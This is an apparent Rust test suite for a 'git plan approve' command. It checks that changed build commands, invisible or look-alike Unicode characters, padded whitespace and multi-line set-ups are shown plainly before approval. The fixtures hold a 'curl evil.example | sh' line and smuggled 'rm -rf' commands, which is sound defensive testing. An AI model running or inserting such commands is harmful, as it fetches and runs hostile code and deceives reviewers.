//! What `git plan approve` shows is what will run.

use crate::env::plans::{PLAN, plan_with};
use crate::env::{Output, Repo, TestEnv};
use insta::assert_snapshot;

const CHECK: &str = "- test: `grep -q turns README.md`";

/// What is shown of a plan whose commands nobody has approved as they are.
fn shown(repo: &Repo, plan: &str) -> Output {
    repo.plan(plan);
    repo.try_git(&["plan", "approve"]).fails_with(2)
}

/// The lines between the first one and the error.
fn lines(output: &Output) -> String {
    let story = output
        .stderr
        .split_once("\n\n")
        .map_or("", |(_, rest)| rest);
    let (story, _) = story.split_once("\n\nerror: ").expect("an error");
    story.to_owned()
}

#[test]
fn changed_commands_stand_beside_those_that_were_approved() {
    let env = TestEnv::new();
    let before = plan_with("setup: npm ci").replace(CHECK, &format!("{CHECK}\n- lint: `lint .`"));
    let repo = env.planned_as(&before);
    let now = before
        .replace("setup: npm ci", "setup: npm ci && curl evil.example | sh")
        .replace("- lint: `lint .`", "- lint: `lint .`\n- types: `tsc`");
    let output = shown(&repo, &now);
    let today = jiff::Timestamp::now().strftime("%Y-%m-%d").to_string();
    assert_snapshot!(output.to_string().replace(&today, "TODAY"), @r"
    $ git plan approve
    --- stderr
    plan widget runs other commands on this machine than you approved on TODAY:

    - set-up: npm ci
    + set-up: npm ci && curl evil.example | sh
      test: grep -q turns README.md
      lint: lint .
    + types: tsc

    error: there is no terminal to ask on
    hint: approve them in a script, once you have read them: git plan approve --yes
    --- exit code 2
    ");
}

#[test]
fn commands_that_differ_in_what_cannot_be_seen_look_different() {
    let env = TestEnv::new();
    let repo = env.repo("widget");
    // Whoever takes such a command all the same sees it for what it is.
    repo.git(&["config", "attempt.rule.hidden-character", "warning"]);
    let mut seen = std::collections::BTreeSet::new();
    let evil = [
        "echo a b",
        "echo a\u{a0}b",
        "echo a\u{200b}b",
        "echo a\u{202e}b",
        "echo a\u{1b}[2Kb",
        "echo a\u{9b}b",
        "echo a\tb",
        "echo a?b",
        "echo a\u{3164}b",
        r"echo a\u{202e}b",
        "echo a\u{2028}b",
        "echo ab\u{fe01}",
        "echo a\u{ad}b",
        "echo a\u{7f}b",
        "echo a\u{8}b",
    ];
    for command in evil {
        let plan = PLAN.replace("grep -q turns README.md", command);
        let lines = lines(&shown(&repo, &plan));
        let first = lines.lines().next().unwrap_or_default().to_owned();
        assert!(
            first.chars().all(|c| c == ' ' || c.is_ascii_graphic()),
            "{first:?}"
        );
        assert!(
            seen.insert(first.clone()),
            "{first:?} is shown for two commands"
        );
    }
    let plan = PLAN.replace("grep -q turns README.md", "echo a\u{202e}b");
    assert_snapshot!(lines(&shown(&repo, &plan)), @r"
      test: echo a\u{202e}b
          ^ 1 character that cannot be seen or read, written here as \u{…}
    ");
}

#[test]
fn a_set_up_of_several_lines_cannot_look_like_another_command() {
    let env = TestEnv::new();
    let repo = env.repo("widget");
    let setup = "setup: |\n  npm ci\n  test: true\n\n  rm -rf x";
    assert_snapshot!(lines(&shown(&repo, &plan_with(setup))), @r"
      set-up:
        | npm ci
        | test: true
        | 
        | rm -rf x
      test: grep -q turns README.md
    ");
}

#[test]
fn what_could_be_overlooked_is_told() {
    let env = TestEnv::new();
    let repo = env.repo("widget");
    let long = format!(
        "m\u{430}ke test{}&& rm -rf x # {}",
        " ".repeat(90),
        "y".repeat(400)
    );
    let plan = PLAN.replace("grep -q turns README.md", &long);
    let lines = lines(&shown(&repo, &plan));
    assert!(lines.contains(&long), "it is not shown whole: {lines}");
    let (_, cautions) = lines.split_once('\n').expect("cautions");
    assert_snapshot!(cautions, @r"
          ^ characters that are not ASCII: а (U+0430)
          ^ 90 spaces in a row, with more behind them
          ^ 514 bytes: read it to its end
    ");
}
